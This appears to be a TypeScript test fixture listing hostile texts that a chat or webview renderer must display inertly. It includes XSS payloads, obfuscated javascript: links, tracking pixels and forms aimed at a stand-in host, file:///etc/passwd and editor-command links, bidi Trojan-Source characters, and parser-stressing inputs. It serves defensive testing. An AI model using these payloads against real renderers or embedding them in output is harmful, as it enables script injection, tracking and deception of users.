/** A prompt or completion that tries to be more than text, and what it tries. */
export interface HostileText {
	name: string;
	text: string;
}

/**
 * Prompts and completions that try to be more than text: each must show as what it is and do nothing. `window.hacked` is
 * what they would set, `panel.test/evil` where they would go.
 */
export function hostileCorpus(): HostileText[] {
	return [...markup, ...links, ...controls, ...structures()].map(([name, text]) => ({ name, text }));
}

export function hostileTexts(): string[] {
	return hostileCorpus().map(({ text }) => text);
}

const markup: [string, string][] = [
	['script', '<script>window.hacked = 1</script>'],
	['script of another place', '<script src="http://panel.test/evil.js"></script>'],
	['image with a handler', '<img src=x onerror="window.hacked = 1">'],
	['image in capitals, unquoted', '<IMG SRC=x ONERROR=window.hacked=1//'],
	['SVG with a handler', '<svg onload="window.hacked = 1"><circle r="9"/></svg>'],
	['SVG with a script', '<svg><script>window.hacked = 1</script></svg>'],
	['SVG that uses another', '<svg><use href="http://panel.test/evil.svg#x"/></svg>'],
	['SVG that animates a link', '<svg><a><animate attributeName="href" values="javascript:window.hacked=1"/></a></svg>'],
	['frame of its own', '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>'],
	['frame of another place', '<iframe src="http://panel.test/evil.html"></iframe>'],
	['object', '<object data="data:text/html,<script>parent.hacked = 1</script>"></object>'],
	['embedded thing', '<embed src="http://panel.test/evil.swf">'],
	['style sheet', '<style>* { display: none !important }</style>'],
	['style sheet of another place', '<link rel="stylesheet" href="http://panel.test/evil.css">'],
	[
		'style that covers the page',
		'<div style="position:fixed;inset:0;background:url(http://panel.test/evil.png)">x</div>',
	],
	['style that imports', '<style>@import url(http://panel.test/evil.css);</style>'],
	['base', '<base href="http://panel.test/evil/">'],
	['refresh', '<meta http-equiv="refresh" content="0;url=http://panel.test/evil.html">'],
	['form', '<form action="http://panel.test/evil"><button>Send</button></form>'],
	['form control outside its form', '<button form="f" formaction="javascript:window.hacked=1">Send</button>'],
	['body', '<body onload="window.hacked = 1">'],
	['details', '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>'],
	['video', '<video><source onerror="window.hacked = 1"></video>'],
	['focus', '<input autofocus onfocus="window.hacked = 1">'],
	['animation', '<p style="animation:x" onanimationstart="window.hacked = 1">x</p>'],
	['control of the toolkit', '<vscode-button onclick="window.hacked = 1">Press</vscode-button>'],
	['template', '<template><script>window.hacked = 1</script></template>'],
	['shadow root', '<div><template shadowrootmode="open"><script>window.hacked = 1</script></template></div>'],
	['MathML', '<math><mtext><style><img src onerror="window.hacked = 1"></style></mtext></math>'],
	['end of the page', '</div></section></main><h1>Outside</h1>'],
	['comment', '<!-- --><script>window.hacked = 1</script>'],
	['comment that never ends', '<!--'.repeat(50)],
	['CDATA', '<![CDATA[<script>window.hacked = 1</script>]]>'],
	['entities', '&lt;script&gt;window.hacked = 1&lt;/script&gt; &#60;b&#62; &#x6a;avascript&colon;x &NewLine;'],
	['markup cut in two', '<scr<script>ipt>window.hacked = 1</scr</script>ipt>'],
	// biome-ignore lint/suspicious/noTemplateCurlyInString: a template language that someone else may run.
	['template languages', '{{constructor.constructor("window.hacked = 1")()}} ${window.hacked = 1} <%= 7*7 %> #{7*7}'],
	['our own placeholders', '{count} {name} %s $& $1'],
	['names of a prototype', '__proto__'],
	['constructor', 'constructor'],
	['ids that clobber', '<a id="devHost"></a><form name="body"><input name="append"></form>'],
	[
		'processing instruction',
		'<?xml version="1.0"?><?php window.hacked = 1 ?><!DOCTYPE html SYSTEM "http://panel.test/evil.dtd">',
	],
];

const links: [string, string][] = [
	['script as address', '[click](javascript:window.hacked=1)'],
	['script as address, in pieces', '[click](java\tscript:window.hacked=1) [click](<java\nscript:window.hacked=1>)'],
	[
		'script as address, in entities',
		'[click](&#106;avascript&#58;window.hacked=1) [a](jav&Tab;ascript:window.hacked=1)',
	],
	['script as address, by reference', '[click][x]\n\n[x]: javascript:window.hacked=1'],
	['script as address, for itself', '<javascript:window.hacked=1>'],
	['script as address, encoded', '[click](%6Aavascript:window.hacked=1) [click](\u0001javascript:window.hacked=1)'],
	['VBScript and data', '[a](vbscript:MsgBox(1)) [b](data:text/html,<script>window.hacked=1</script>)'],
	['tracking pixel', '![pixel](http://panel.test/evil.png?who=you)'],
	['tracking pixel in a link', '[![pixel](http://panel.test/evil.png)](http://panel.test/evil)'],
	['SVG as image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)'],
	['image address that ends early', '![x](x" onerror="window.hacked=1)'],
	['link title that ends early', '[x](http://panel.test/evil "\' onmouseover=window.hacked=1 \'")'],
	['anchor', '<a href="javascript:window.hacked=1">here</a>'],
	['commands of the editor', '[run](command:workbench.action.terminal.new) [open](vscode://file/etc/passwd)'],
	['files', '[x](file:///etc/passwd) ![x](file:///etc/passwd) [y](//panel.test/evil)'],
	[
		'another host than it says',
		'[https://good.example](http://panel.test/evil) [x](https://good.example@panel.test/evil)',
	],
	['host in another script', '[x](https://\u0430\u0440\u0440\u04cf\u0435.example/)'],
	['data URL', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4='],
];

const controls: [string, string][] = [
	['terminal controls', '\u001b[2J\u001b[31mred\u001b[0m\u001b]8;;http://panel.test/\u0007link\u001b]8;;\u0007'],
	['C1 controls', '\u009b31m\u0085next\u0090x'],
	['reordered source', 'if (isAdmin\u202e \u2066// only for admins\u2069 \u2066) {'],
	['reordered link', '[\u202egpj.exe](http://panel.test/evil)'],
	['embeddings that never end', '\u202dabc\u202c\u2067def\u2069\u202e\u202e'],
	['null and bell', 'null\u0000byte and bell\u0007'],
	['tag characters', 'tags \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}'],
	['zero width', 'zero\u200bwidth\u200cjoiner\u200d and \ufeff mark\u2060\u00ad'],
	['variation selectors that carry data', `x${'\u{e0148}\u{e0155}'.repeat(20)}`],
	['lone surrogates', 'lone \ud800 high and \udc00 low surrogates'],
	['lone surrogates in code', '```ts\nconst \ud83d = "\udc00";\n```'],
	['stacked marks', 'H\u0335\u0321\u033e'.repeat(60)],
	['right to left', 'עברית עם English באמצע ו-123'],
	['line separators', 'line\u2028separator\u2029paragraph\u0085end'],
	['carriage returns', 'shown\rhidden\r\nnext\r\r\n'],
];

/** Texts that are hard by their shape. */
function structures(): [string, string][] {
	return [
		['many backticks', `${'`'.repeat(5000)}\ncode`],
		['backticks of every length', Array.from({ length: 100 }, (_, length) => `e${'`'.repeat(length)}`).join('')],
		['fences and nothing else', '```\n'.repeat(500)],
		['script in a fence', '```js\nwindow.hacked = 1\n```'],
		['script after a fence of tildes', '~~~html\n<script>window.hacked = 1</script>\n~~~'],
		['language with markup', '```"><script>window.hacked=1</script>\nx\n```'],
		['languages with names of a prototype', '```__proto__\nx\n```\n\n```constructor\ny\n```'],
		['huge fence', `\`\`\`ts\n${'const a = { b: [1, "2", /3/], c: `4` }; // 5\n'.repeat(4000)}\`\`\``],
		['fence of one line', `\`\`\`js\n${'a("b",'.repeat(30_000)}\n\`\`\``],
		['fence that never ends', `~~~~\n${'x\n'.repeat(3000)}`],
		['strings and comments that never end', `\`\`\`js\n${'/* " \' ` ${'.repeat(400)}\n\`\`\``],
		['brackets', `${'['.repeat(2000)}${']'.repeat(2000)}`],
		['links in links', '[a]('.repeat(1500)],
		['images in images', '![[]()'.repeat(1000)],
		['quotes 10,000 deep', `${'> '.repeat(10_000)}deep quote`],
		['quotes without spaces, 10,000 deep', `${'>'.repeat(10_000)}deep quote`],
		['lists 10,000 deep', `${'- '.repeat(10_000)}deep list`],
		['numbered lists 3,000 deep', `${'1. '.repeat(3000)}deep list`],
		['lists that step in', Array.from({ length: 150 }, (_, depth) => `${' '.repeat(depth * 2)}- ${depth}`).join('\n')],
		['wide table', `${'|a'.repeat(200)}|\n${'|-'.repeat(200)}|\n${'|b'.repeat(200)}|`],
		['table that promises cells', `${'|a'.repeat(100)}\n${'|-'.repeat(100)}\n${'|\n'.repeat(1500)}`],
		['long table', `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(2000)}`],
		['bars', '|'.repeat(5000)],
		['one word', 'x'.repeat(100_000)],
		['line breaks', `${'\n'.repeat(5000)}end`],
		['emphasis', '*_'.repeat(5000)],
		['emphasis that half closes', '*a_ '.repeat(2500)],
		['strong emphasis', '**a '.repeat(2500)],
		['entities without end', '&#'.repeat(4000)],
		['angle brackets', '<'.repeat(8000)],
		['escapes', '\\'.repeat(8001)],
		['definitions', '[a]: b\n'.repeat(1000)],
		['headings', '# x\n'.repeat(2000)],
		['tabs', '\t'.repeat(4000)],
		['deep JSON', `${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}`],
		['JSON that is none', '{"a": NaN, "b": Infinity, "c": undefined, "d": 1e999, "__proto__": {"x": 1}}'],
		['characters of four bytes', '👩‍👩‍👧‍👦'.repeat(2000)],
	];
}
